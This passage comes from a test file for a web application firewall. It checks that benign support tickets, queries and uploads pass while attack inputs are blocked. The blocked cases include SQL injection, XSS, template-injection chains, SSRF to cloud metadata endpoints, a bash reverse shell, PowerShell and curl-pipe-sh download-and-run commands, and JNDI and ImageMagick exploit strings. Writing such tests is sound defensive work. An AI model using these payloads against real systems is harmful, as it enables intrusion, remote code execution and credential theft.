      { html: '<p aria-label="x" style="background:#fff">hi</p><img src=x onerror=alert(1)>' },
      { note: 'Please check the server status today\n( whoami )' },
      { note: 'Please check the server status today\n! whoami' },
      { description: 'Rates follow k = A·exp(−Ea/RT) and system($_GET[c]) in the notes' },
      { description: 'The order was fine"); system("id"); ("ok and we shipped it on time' },
      { filter: `x' or '{"a":1}' @> '{"a":1}' or 'y` },
    ]) {
      assert.equal((await run(api, post(doc))).error?.status, 403, JSON.stringify(doc));
    }
  });
});

describe('waf API profile: multipart form fields get the value view (session 7)', () => {
  const boundary = '----gatehouse7';
  const multipart = (fields: [string, string][], file = true): NonNullable<Init> => {
    let body = '';
    for (const [k, v] of fields)
      body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
    if (file)
      body += `--${boundary}\r\nContent-Disposition: form-data; name="attachment"; filename="screenshot.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n0000\r\n`;
    body += `--${boundary}--\r\n`;
    const bytes = Buffer.from(body, 'latin1');
    return {
      method: 'POST',
      path: '/api/tickets',
      headers: {
        ...ua,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': String(bytes.length),
      },
      body: bytes,
    };
  };

  test('prose, markdown code and rich text in multipart fields pass; CRS blocks them', async () => {
    for (const [k, v] of [
      [
        'description',
        'We ordered the select committee report; drop it off at reception and tell me where to sign.',
      ],
      [
        'question',
        'Why does the installer ask for admin rights? It wants to write to C:\\Program Files (x86)\\Acme.',
      ],
      ['body', 'Same error here. Running `rm -rf node_modules && npm ci` did not help, logs attached.'],
      ['details', 'Timeout when deleting a project with 10k+ issues, see the attached screenshot please.'],
    ] as [string, string][]) {
      assert.ok((await run(plain, multipart([[k, v]]))).error !== undefined, v);
      assert.equal((await run(api, multipart([[k, v]]))).error, undefined, v);
    }
  });

  test('payloads in multipart fields, forged view names and malformed bodies are still blocked', async () => {
    for (const fields of [
      [['description', "Please refund order 1' UNION SELECT password FROM users-- thanks a lot"]],
      [['description', 'Hello team, please look at this: <script>alert(document.cookie)</script> thanks']],
      [['comment', 'see logs; cat /etc/passwd']],
      [['gatehouse.prose.clqsx:description', "1' OR '1'='1"]],
      [['gatehouse.prose.k:x.fenced-code', '; cat /etc/passwd']],
      [['json.description', 'x']],
    ] as [string, string][][]) {
      assert.equal((await run(api, multipart(fields))).error?.status, 403, JSON.stringify(fields));
    }
    // Strictness flags come from the body as sent: a part without a blank line after its headers.
    const bad = multipart([['description', 'Drop off the signed forms at reception today please.']], false);
    const broken = Buffer.from(
      bad.body?.toString('latin1').replace('"description"\r\n\r\n', '"description"\r\n') ?? '',
      'latin1',
    );
    const { error } = await run(api, {
      ...bad,
      headers: { ...bad.headers, 'content-length': String(broken.length) },
      body: broken,
    });
    assert.ok(error !== undefined);
  });
});

describe('waf API profile: quoted field names, ranges and pages in filters; sleep and union in prose (session 7)', () => {
  const get = (path: string): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.slice(path.indexOf('?') + 1),
    headers: { ...ua },
  });

  test('JQL with a quoted custom field, BETWEEN, LIMIT; a workshop on sleep; union and select in a letter', async () => {
    const jql = 'project = SEC AND issuetype = Bug AND "Story Points[Number]" > 3';
    assert.equal(
      (await run(api, get(`/rest/api/3/search/jql?jql=${encodeURIComponent(jql)}`))).error,
      undefined,
    );
    for (const expression of [
      "depth_m BETWEEN 200 AND 1000 AND (species = 'Gadus morhua' OR species LIKE 'Melanogrammus%') ORDER BY sampled_at DESC",
      "cruise = 'JC-231' AND NOT (salinity_psu IS NULL) LIMIT 5000",
    ]) {
      assert.equal((await run(api, post({ savedSearch: { expression } }))).error, undefined, expression);
    }
    const docs = [
      {
        descriptionHtml:
          '<p>🧘 <strong>Sleep Better Workshop</strong> — learn why adults need 7–9 hours.</p><ol><li>Science of sleep (45 min)</li><li>Guided wind-down (20 min)</li></ol>',
      },
      {
        justification:
          'We had to drop out of the union health plan when my husband was laid off. The select committee report on the cost of living said families like ours should qualify, and my hours went from 38 to 16.',
      },
    ];
    for (const doc of docs) {
      assert.ok((await run(plain, post(doc))).error !== undefined, JSON.stringify(doc));
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
  });

  test('a quoted-string tautology, ranges that break out, delays of a number, union select in prose: blocked', async () => {
    for (const expression of [
      "'1' = '1' OR project = SEC",
      'depth_m BETWEEN 1 AND 2 UNION SELECT password FROM users',
      'depth_m BETWEEN 1 AND sleep(5)',
      'project = SEC LIMIT 1; drop table users',
    ]) {
      assert.equal((await run(api, post({ savedSearch: { expression } }))).error?.status, 403, expression);
    }
    for (const text of [
      '<p>Our workshop starts soon.</p><p>x = sleep(10) and more words here</p>',
      'Please send me the report for my account today 1 union all select password from users',
      'Please send me the report today, it is 1 and sleep(15) for the rest of my account please',
    ]) {
      assert.equal((await run(api, post({ text }))).error?.status, 403, text);
    }
  });
});

describe('waf API profile: restricted extensions in the URL of JSON writes (session 7)', () => {
  const req = (method: string, path: string, ct?: string, body = ''): Init => ({
    method,
    path,
    headers: {
      ...ua,
      ...(ct === undefined ? {} : { 'content-type': ct, 'content-length': String(Buffer.byteLength(body)) }),
    },
    ...(body === '' ? {} : { body: Buffer.from(body) }),
  });

  test('a repository file API writing a .sql or .sh file by path passes; CRS blocks it', async () => {
    const doc = JSON.stringify({ message: 'Add migration', content: 'U0VMRUNUIDE7', branch: 'main' });
    for (const path of [
      '/repos/acme/api/contents/db/migrations/0043_restore_trgm.sql',
      '/api/v1/repos/acme/runbooks/files/scripts%2Fdeploy.sh',
    ]) {
      assert.ok((await run(plain, req('PUT', path, 'application/json', doc))).error !== undefined, path);
      assert.equal((await run(api, req('PUT', path, 'application/json', doc))).error, undefined, path);
      assert.equal(
        (await run(api, req('PATCH', path, 'application/merge-patch+json', doc))).error,
        undefined,
        path,
      );
    }
  });

  test('reading a backup, or writing one with another body type, is still refused', async () => {
    for (const r of [
      req('GET', '/backup/db.sql'),
      req('GET', '/api/export.bak?x=1'),
      req('DELETE', '/site/config.ini'),
      req('PUT', '/uploads/db.sql', 'text/plain', 'SELECT 1;'),
      req('POST', '/uploads/site.bak', 'application/x-www-form-urlencoded', 'a=1'),
    ]) {
      assert.equal((await run(api, r)).error?.status, 403, `${r?.method} ${r?.path}`);
    }
  });
});

describe('waf API profile: method calls on data in automation templates (family t, session 7)', () => {
  test('smart values that call date and string methods pass; CRS blocks them', async () => {
    for (const message of [
      'Due {{issue.duedate.plusBusinessDays(3).jiraDate}} — please update the estimate ({{issue.timetracking.originalEstimate}}).',
      '{{#if(equals(issue.priority.name, "Highest"))}}Paging the on-call: {{issue.url}}{{/}}',
      'Sprint {{sprint.name}} ends on {{sprint.endDate.format("dd MMM")}}, see you at the review.',
    ]) {
      const doc = { actions: [{ type: 'send_chat', message }] };
      assert.ok((await run(plain, post(doc))).error !== undefined, message);
      assert.equal((await run(api, post(doc))).error, undefined, message);
    }
  });

  test('template injection in the same field is blocked', async () => {
    for (const message of [
      'Hello {{7*7}} there',
      "Hello {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
      "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}",
      'Hello {{config.items()}} there',
      'Hello {{ lipsum.__globals__.os.popen("id").read() }}',
      'Hello {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
      'Hello {{this.constructor.constructor("return process")()}}',
      "Hello {{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
      'Hello {{ request.application.__globals__ }} there',
      'Due {{issue.duedate.plusBusinessDays(3)}} and #{7*7} there',
      'Due {{issue.duedate.plusBusinessDays(3)}} and <%= 7*7 %> there',
    ]) {
      const doc = { actions: [{ type: 'send_chat', message }] };
      assert.equal((await run(api, post(doc))).error?.status, 403, message);
    }
  });
});

describe('waf API profile: help-desk, CI and i18n traffic of held-out 8 (session 7)', () => {
  const get = (path: string): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.slice(path.indexOf('?') + 1),
    headers: { ...ua },
  });

  test('ampersands, abbreviations, menu paths, numbered steps, CI configs, globs, date ranges, placeholders pass', async () => {
    for (const doc of [
      {
        body: 'Is there a way to insert a signature into every reply automatically? Right now agents copy & paste it from a Google Doc.',
      },
      {
        body: 'Please try this in an incognito window and let me know if it still fails — if so, send us the HAR file (DevTools > Network > right click > Save all as HAR).',
      },
      {
        status:
          'Sunday bake: sourdough w/ 75% hydration 🍞\n\n1. autolyse 1h\n2. stretch & fold x4\n3. bulk 5h @ 24°C\n\nResult 👇 #breadtok #sourdough',
      },
      { title: 'i18n: add sr-Latn & update ru plurals' },
      {
        pipeline: {
          config:
            'build:\n  stage: build\n  image: docker:27\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n    - docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n',
        },
      },
      { key: 'DEPLOY_TOKEN', environment_scope: 'staging/*' },
      { expression: "country IN ('US', 'CA') AND order_date >= DATE '2026-01-01'" },
      { filter: "datum.revenue > 0 && datum.region != 'Test'" },
      { source: { value: "Are you sure you want to delete '{workspace}'? This can't be undone." } },
    ]) {
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
    const path = '/embed/dashboards/a2t?p_region=EMEA&p_date_range=2026-01-01--2026-03-31';
    assert.ok((await run(plain, get(path))).error !== undefined);
    assert.equal((await run(api, get(path))).error, undefined);
  });

  test('the same shapes carrying payloads are blocked', async () => {
    for (const doc of [
      { body: 'Right now agents copy & whoami from a Google Doc, please advise us today.' },
      { body: 'Please check the server status today & cat /etc/passwd and tell me' },
      { body: 'send us the HAR file (DevTools > Network > $(id)) as usual please' },
      {
        pipeline: {
          config:
            'build:\n  script:\n    - cat /etc/passwd\n    - bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n',
        },
      },
      { pipeline: { config: "stage: x\nname: ' OR 1=1--" } },
      { environment_scope: "staging' OR 1=1/*" },
      { environment_scope: '1 union select password from users/*' },
      {
        expression: "country IN ('US') AND order_date >= DATE '2026-01-01' UNION SELECT password FROM users",
      },
      { filter: "datum.revenue > 0 && '1'='1'" },
      { value: "Are you sure you want to delete '{workspace}' or '1'='1'? This can't be undone." },
    ]) {
      assert.equal((await run(api, post(doc))).error?.status, 403, JSON.stringify(doc));
    }
    for (const q of ["2026-01-01'--", '2026-01-01-- or 1=1', "1' or 1=1--2026-03-31"]) {
      const path = `/embed/dashboards/a2t?p_date_range=${encodeURIComponent(q)}`;
      assert.equal((await run(api, get(path))).error?.status, 403, q);
    }
  });
});

describe('waf API profile: uploads, headers and cookies of held-out 8 (rules 90117–90121, session 7)', () => {
  const boundary = '----gatehouse8';
  const upload = (filename: string, type: string, content: string): Init => {
    const body = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${boundary}--\r\n`,
      'utf8',
    );
    return {
      method: 'POST',
      path: '/api/v1/uploads',
      headers: {
        ...ua,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': String(body.length),
      },
      body,
    };
  };
  const get = (headers: Record<string, string>): Init => ({
    method: 'GET',
    path: '/api/v2/tickets',
    query: 'page=1',
    headers: { ...ua, ...headers },
  });

  test('script or internal URLs in uploaded SVG/HTML, commands, OS files and query documents in headers: blocked', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=fetch(1)></div></foreignObject></svg>';
    for (const [init, reason] of [
      [upload('avatar.svg', 'image/svg+xml', svg), 'xss'],
      [
        upload(
          'a.svg',
          'image/svg+xml',
          '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        'xss',
      ],
      [
        upload(
          'report.html',
          'text/html',
          '<html><body><iframe src="http://metadata.google.internal/computeMetadata/v1/"></iframe></body></html>',
        ),
        'xss',
      ],
      [
        upload(
          'report.html',
          'text/html',
          '<html><body><img src="http://169.254.169.254/latest/meta-data/"></body></html>',
        ),
        'ssrf',
      ],
      [
        get({
          referer:
            '& powershell -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')"',
        }),
        'rce',
      ],
      [get({ 'x-debug': 'curl -s http://203.0.113.5/x | sh' }), 'rce'],
      [get({ cookie: 'sid=abc; branch=1%3Bc%5Cat%20/et%5Cc/pas%5Cswd' }), 'lfi'],
      [get({ 'x-template': '/etc/passwd' }), 'lfi'],
      [get({ 'x-query': '{"user_id":{"$in":["admin","root"]}}' }), 'nosql'],
      [get({ cookie: 'sid=abc; user[$ne]=x' }), 'nosql'],
    ] as [Init, string][]) {
      assert.equal((await run(api, init)).error?.reason, `waf:${reason}`, JSON.stringify(init?.headers));
    }
    // A URL written with circled digits and ideographic full stops is the metadata address to a URL parser.
    const idna = { endpoint: 'http://⑯⑨。②⑤④。⑯⑨。②⑤④/latest/meta-data/' };
    assert.equal((await run(api, post(idna))).error?.reason, 'waf:ssrf');
  });

  test('ordinary uploads, logos, CSVs with markup-like text and everyday headers pass', async () => {
    for (const init of [
      upload(
        'logo.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#7c3aed"/></svg>',
      ),
      upload(
        'notes.html',
        'text/html',
        '<html><body><h1>Q1 report</h1><p>Revenue <strong>up 8%</strong>. See <a href="https://example.com/q1">details</a>.</p></body></html>',
      ),
      upload(
        'export.csv',
        'text/csv',
        'id,comment\n1,"<script> tags are stripped, see http://localhost:8080"\n',
      ),
      get({
        referer: 'https://support.example.com/admin/diagnostics?tab=dns',
        cookie: 'sid=abc; theme=dark; filters=%7B%22status%22%3A%22open%22%7D',
      }),
      get({ 'x-request-id': '89188238-0c93-4887-8ba6-fdff50770ee5', 'x-forwarded-prefix': '/api' }),
    ]) {
      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init?.headers));
    }
  });
});

describe('waf API profile: search-box query syntax (family q, session 7)', () => {
  const get = (path: string): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.slice(path.indexOf('?') + 1),
    headers: { ...ua },
  });
  const search = (q: string): Init => get(`/api/v2/search.json?query=${encodeURIComponent(q)}&page=1`);

  test('phrases, boolean groups and qualifiers pass; CRS blocks them', async () => {
    for (const q of [
      '"drop-down" AND (export OR csv)',
      'is:open "order by" in:title',
      'repo:acme/api "SELECT * FROM" in:body',
      'release:"web@3.14.2" !user.email:*@acme.io',
    ]) {
      assert.ok((await run(plain, search(q))).error !== undefined, q);
      assert.equal((await run(api, search(q))).error, undefined, q);
    }
  });

  test('break-outs, tautologies, calls and statements in the same parameter are blocked', async () => {
    for (const q of [
      '"x" OR 1=1',
      "x' OR '1'='1",
      '"drop-down" AND (select password from users)',
      '"x" union select password from users',
      'is:open AND sleep(5)',
      '"x") OR 1 --',
    ]) {
      assert.equal((await run(api, search(q))).error?.status, 403, q);
    }
  });
});

describe('waf API profile: attacks held-out 9 found missed (rules 90122–90124, session 7)', () => {
  const get = (path: string, headers: Record<string, string> = {}): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.includes('?') ? path.slice(path.indexOf('?') + 1) : '',
    headers: { ...ua, ...headers },
  });
  const upload = (filename: string, type: string, content: string): Init => {
    const b = '----gatehouse9';
    const body = Buffer.from(
      `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`,
    );
    return {
      method: 'POST',
      path: '/api/media',
      headers: {
        ...ua,
        'content-type': `multipart/form-data; boundary=${b}`,
        'content-length': String(body.length),
      },
      body,
    };
  };

  test('metadata paths behind rebinding names, jar: URLs, OAST hosts, hostile referers, polyglots, exploit files', async () => {
    for (const [init, reason] of [
      [
        get(
          '/v1/firmware/check?manifest=http%253A%252F%252F7f000001.a9fea9fe.rbndr.us%252Flatest%252Fmeta-data%252F',
        ),
        'ssrf',
      ],
      [get('/v1/fetch?url=http%3A%2F%2F169.254.169.254.nip.io%2F'), 'ssrf'],
      [post({ resume_url: 'jar:http://198.51.100.7:8000/evil.jar!/' }), 'ssrf'],
      [
        get('/v1/check', { referer: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
        'ssrf',
      ],
      [get('/v1/check', { referer: 'http://status.example.com@169.254.169.254/latest/meta-data/' }), 'ssrf'],
      [get('/v1/check', { referer: "{system('cat /etc/passwd')}" }), 'generic'],
      [get('/v1/check', { cookie: 'sid=x; region=https%3A%2F%2Fx7k2.oast.fun%2Fssrf-probe' }), 'ssrf'],
      [post({ callback: 'http://abc123.oastify.com/x' }), 'ssrf'],
      [get('/v1/check', { cookie: "sid=x; region=%24%7B%7B%3C%25%5B%25'%22%7D%7D%25%5C." }), 'template'],
      [
        upload(
          'exploit.mvg',
          'image/png',
          "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/a.jpg\"|curl \"http://x/$(id)')'\npop graphic-context\n",
        ),
        'rce',
      ],
      [upload('clauses.json', 'application/json', '[{"heading":"x","__proto__":{"isAdmin":true}}]'), 'rce'],
    ] as [Init, string][]) {
      assert.equal((await run(api, init)).error?.reason, `waf:${reason}`, JSON.stringify(init));
    }
  });

  test('ordinary referers, origins on localhost, callbacks and JSON uploads pass', async () => {
    for (const init of [
      get('/v1/check', {
        referer: 'https://app.example.com/settings?tab=dns&x=(1)',
        origin: 'http://localhost:3000',
      }),
      get('/v1/check', { referer: 'android-app://com.google.android.gm/' }),
      post({
        callback: 'https://hooks.example.com/webhooks/stripe',
        note: 'see https://docs.aws.amazon.com/latest/userguide',
      }),
      upload(
        'clauses.json',
        'application/json',
        '[{"heading":"Term","text":"This Agreement starts on the Effective Date."}]',
      ),
    ]) {
      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init));
    }
  });
});

describe('waf API profile: error events, templates with filters, print styles (held-out 9, session 7)', () => {
  test('eval() named in prose, a Sentry frame, a Home Assistant condition, a commit title, NDA and embed HTML pass', async () => {
    for (const doc of [
      { summary: 'Take-home was clean. Minor nit: used eval() to parse the config instead of JSON.parse().' },
      {
        exception: {
          values: [
            {
              type: 'NullPointerException',
              value: 'Cannot invoke "String.trim()" because "header" is null',
              stacktrace: {
                frames: [
                  {
                    filename: 'AuthFilter.java',
                    lineno: 42,
                    context_line: '        String token = header.trim().substring(7);',
                  },
                ],
              },
            },
          ],
        },
      },
      { conditions: [{ template: '{{ states("sensor.outdoor_temp") | float < 5 }}' }] },
      { head_commit: { message: 'Fix <figcaption> overflow on mobile; drop old IE11 polyfills' } },
      {
        body_html:
          '<h1>MUTUAL NDA</h1><p style="page-break-before: always;">This Agreement is entered into by the parties.</p>',
      },
      {
        body_html:
          '<figure class="media"><div data-oembed-url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><div style="position: relative; padding-bottom: 56.25%; height: 0;"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" style="position: absolute; width: 100%; height: 100%; top: 0; left: 0;" frameborder="0" allowfullscreen=""></iframe></div></div></figure>',
      },
    ]) {
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
  });

  test('Node code reaching a process, template walks, stacked queries after a quote, fixed overlays: blocked', async () => {
    for (const doc of [
      { summary: "Take-home was clean. Minor nit: it calls require('child_process').exec('id') at startup." },
      { conditions: [{ template: "{{ states('x') | attr('__class__') }}" }] },
      { conditions: [{ template: '{{ 7*7 }} degrees outside' }] },
      { head_commit: { message: 'Fix <b>x</b>"; drop table users; --' } },
      {
        body_html:
          '<div style="position: fixed; top: 0; left: 0; width: 100%"><a href="https://evil.example">Log in again</a></div><img src=x onerror=alert(1)>',
      },
    ]) {
      assert.equal((await run(api, post(doc))).error?.status, 403, JSON.stringify(doc));
    }
  });
});

describe('waf API profile: attacks held-out 10 found missed (session 7)', () => {
  const upload = (content: string, filename = 'notes.txt', type = 'text/plain'): Init => {
    const b = '----gatehouse10';
    const body = Buffer.from(
      `--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nnotes\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`,
    );
    return {
      method: 'POST',
      path: '/v1/imports/events',
      headers: {
        ...ua,
        'content-type': `multipart/form-data; boundary=${b}`,
        'content-length': String(body.length),
      },
      body,
    };
  };

  test('payloads in imported text files, URL member names, aggregation stages, $where-style JS, pointer paths', async () => {
    for (const [init, reason] of [
      [upload('line 1\n1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)\nline 3'), 'rce'],
      [upload('line 1\n{{range.constructor("return process")()}}\nline 3'), 'template'],
      [
        upload("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
        'template',
      ],
      [upload('line 1\n$(sleep 5)\nline 3'), 'rce'],
      [
        upload(
          '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
        ),
        'rce',
      ],
      [upload("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/e}"), 'template'],
      [
        upload(
          '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env"/></svg>',
          'logo.svg',
          'image/svg+xml',
        ),
        'ssrf',
      ],
      [post({ metadata: { 'dict://127.0.0.1:11211/stats': 'true' } }), 'ssrf'],
      [
        post({
          pipeline: [{ $lookup: { from: 'users', localField: 'userId', foreignField: '_id', as: 'u' } }],
        }),
        'nosql',
      ],
      [post({ definition: "traits.plan == 'pro'; return true; var x='" }), 'nosql'],
      [
        post(
          [{ op: 'replace', path: '/constructor/prototype/role', value: 'owner' }],
          'application/json-patch+json',
        ),
        'prototype-pollution',
      ],
      [
        post({
          body: "Hi, I can't find my order, the number is 5521admin'/**/OR/**/1=1# — can you check? thanks",
        }),
        'sqli',
      ],
    ] as [Init, string][]) {
      assert.equal(
        (await run(api, init)).error?.reason,
        `waf:${reason}`,
        JSON.stringify(init?.body?.toString().slice(0, 200)),
      );
    }
  });

  test('ordinary imports, URL-keyed maps of public hosts, pointer paths, prose pass', async () => {
    for (const init of [
      upload(
        'date,amount,note\n2026-01-03,12.50,"Lunch with client, O\'Brien"\n2026-01-04,8.00,sleep well\n',
      ),
      post({ redirects: { 'https://example.com/old': 'https://example.com/new' } }),
      post([{ op: 'replace', path: '/settings/prototype_mode', value: true }], 'application/json-patch+json'),
      post({ body: "Hi, I can't find my order, the number is 5521 — can you check? thanks" }),
    ]) {
      assert.equal(
        (await run(api, init)).error,
        undefined,
        JSON.stringify(init?.body?.toString().slice(0, 200)),
      );
    }
  });
});

describe('waf API profile: headlines, e-mail paths, show notes, equations, chat (held-out 10, session 7)', () => {
  test('typographic pipes and ampersands, an e-mail in the path, eval() in show notes, LaTeX titles, ping me pass', async () => {
    for (const init of [
      post({ headline: 'Full-stack dev | Node, React & SQL | 100% JSS' }),
      { method: 'DELETE', path: '/v3/contacts/j.smith%2Bpromo%40example.com', headers: { ...ua } },
      post({
        html: '<p>Ep. 88 — "Whatever happened to Flash?" with @kerri. We cover ActionScript, eval() and why Adobe pulled the plug.</p>',
      }),
      post({
        body: '<p>Key equation: <img class="equation_image" title="pH = -\\log_{10}[H^+]" src="/equation_images/pH%2520%253D%2520-%255Clog_%257B10%257D?scale=1" alt="LaTeX: pH = -\\log_{10}[H^+]"></p>',
      }),
      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert && ping me' }),
    ] as Init[]) {
      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init?.path));
    }
  });

  test('the same places with payloads are blocked', async () => {
    for (const init of [
      post({ headline: 'Full-stack dev | whoami | 100% JSS' }),
      post({ headline: 'Full-stack dev | curl evil.example | sh' }),
      { method: 'GET', path: '/backup/site.com', headers: { ...ua } },
      post({ html: '<p>We cover ActionScript");alert(document.cookie);//</p>' }),
      post({ body: '<img title="x" src="/a\\u0022onerror=alert(1)">' }),
      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert && ping -c 30 127.0.0.1' }),
      post({ content: 'brb, grabbing coffee. if the deploy breaks just revert; curl metadata please' }),
    ] as Init[]) {
      assert.equal(
        (await run(api, init)).error?.status,
        403,
        JSON.stringify(init?.path ?? init?.body?.toString()),
      );
    }
  });
});

describe('waf API profile: attacks held-out 11 found missed (rules 90127–90130, session 7)', () => {
  const upload = (filename: string, type: string, content: string): Init => {
    const b = '----gatehouse11';
    const body = Buffer.from(
      `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`,
    );
    return {
      method: 'POST',
      path: '/api/imports',
      headers: {
        ...ua,
        'content-type': `multipart/form-data; boundary=${b}`,
        'content-length': String(body.length),
      },
      body,
    };
  };
  const get = (headers: Record<string, string>): Init => ({
    method: 'GET',
    path: '/api/me',
    headers: { ...ua, ...headers },
  });

  test('SQL in a client-address header, $where JS, data uploads, file names, referer traversal, cookie SSRF', async () => {
    for (const [init, reason] of [
      [
        get({ 'x-forwarded-for': '-1 UNION ALL SELECT NULL,username,password_hash FROM users-- -' }),
        'protocol-attack',
      ],
      [post({ tags: ['vip', 'this.password.match(/^a.*/)//'] }), 'nosql'],
      [upload('filter.json', 'application/json', '{"email":"a@b.c","password":{"$ne":null}}'), 'nosql'],
      [upload('import.json', 'application/json', '{"avatarUrl":"dict://127.0.0.1:11211/stats"}'), 'ssrf'],
      [upload('report|| sleep 10 ||.csv', 'text/csv', 'date,amount\n2026-01-01,20\n'), 'rce'],
      [upload('../../../etc/cron.d/x', 'text/plain', 'x'), 'lfi'],
      [get({ referer: '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' }), 'generic'],
      [get({ cookie: 'sid=x; prefs=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL' }), 'ssrf'],
    ] as [Init, string][]) {
      assert.equal((await run(api, init)).error?.reason, `waf:${reason}`, JSON.stringify(init?.headers));
    }
  });

  test('proxy chains, JSON and CSV imports, ordinary file names and cookies pass', async () => {
    for (const init of [
      get({ 'x-forwarded-for': '203.0.113.7, 10.0.0.2, unknown' }),
      upload(
        'contacts.json',
        'application/json',
        '[{"email":"a@example.com","url":"https://example.com/a"}]',
      ),
      upload('Q&A notes (final) v2.csv', 'text/csv', 'q,a\nwhy,because\n'),
      get({ cookie: 'sid=x; returnTo=https%3A%2F%2Fapp.example.com%2Fsettings' }),
      post({
        snippet_lang: 'js',
        body: 'In the model, this.total should be recomputed whenever items change.',
      }),
    ]) {
      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init?.headers));
    }
  });
});

describe('waf API profile: OAuth redirect URIs (family r, session 8)', () => {
  test('a client registration with localhost redirect URIs passes; internal URLs elsewhere are still refused', async () => {
    const ok = {
      name: 'Local dev',
      redirect_uris: ['https://localhost:3000/callback', 'http://127.0.0.1:8080/auth/callback'],
      post_logout_redirect_uri: 'http://localhost:3000/',
    };
    assert.equal((await run(api, post(ok))).error, undefined);
    for (const doc of [
      { name: 'Local dev', webhook_url: 'http://localhost:8080/hooks' },
      { name: 'Local dev', import_url: 'http://169.254.169.254/latest/meta-data/' },
      {
        name: 'Local dev',
        redirect_uris: ['http://169.254.169.254/latest/meta-data/"><script>alert(1)</script>'],
      },
    ])
      assert.ok((await run(api, post(doc))).error !== undefined, JSON.stringify(doc));
  });
});

function getInit(target: string): Init {
  const q = target.indexOf('?');
  return { method: 'GET', path: target.slice(0, q), query: target.slice(q + 1), headers: { ...ua } };
}

describe('waf API profile: session 9', () => {
  test('held-out 11/18/19 look-alikes pass: Drive queries, percentiles, manifests, prose over GraphQL GET', async () => {
    const drive = `/v4/files/search?q=${encodeURIComponent("mimeType = 'spreadsheet' and 'me' in owners and not trashed")}`;
    assert.equal((await run(api, getInit(drive))).error, undefined);
    const note =
      'Well-child 4 y/o. Growth: 50th %ile ht, 60th %ile wt. Parent questions re: screen time (< 1 hr/day advised).';
    assert.equal((await run(api, post({ note }))).error, undefined);
    const message =
      'Rebased on main; resolved the conflict in package-lock.json by regenerating it. CI should be green now.';
    assert.equal((await run(api, post({ message }))).error, undefined);
    const gql = (variables: unknown): string =>
      `/graphql?query=${encodeURIComponent('mutation AddComment($input: AddCommentInput!) { addComment(input: $input) { id } }')}&variables=${encodeURIComponent(JSON.stringify(variables))}`;
    assert.equal((await run(api, getInit(gql({ input: { body: message } })))).error, undefined);
    // The same places with payloads.
    for (const q of ["x' or 1=1 and not trashed", "mimeType = 'a' and not trashed; drop table files"]) {
      assert.ok((await run(api, getInit(`/v4/files/search?q=${encodeURIComponent(q)}`))).error, q);
    }
    const bad =
      'Rebased on main; resolved the conflict in /etc/passwd by regenerating it. CI should be green now.';
    assert.ok((await run(api, post({ message: bad }))).error, bad);
    assert.ok((await run(api, post({ message: `${message}; whoami` }))).error);
    assert.ok(
      (
        await run(
          api,
          getInit(gql({ input: { body: "Rebased on main' UNION SELECT password FROM users --" } })),
        )
      ).error,
    );
    assert.ok((await run(api, getInit(gql({ input: { body: `${message}; cat /etc/passwd` } })))).error);
  });

  test('formulas, piped text, workflow references, date arithmetic and code steps pass (held-out 18/19)', async () => {
    const ok: unknown[] = [
      { formula: '=IF(B4>0, C4/B4, "")' },
      { formula: '=SUMIFS(Costs!C:C, Costs!A:A, A4, Costs!B:B, ">="&DATE(2026,1,1))' },
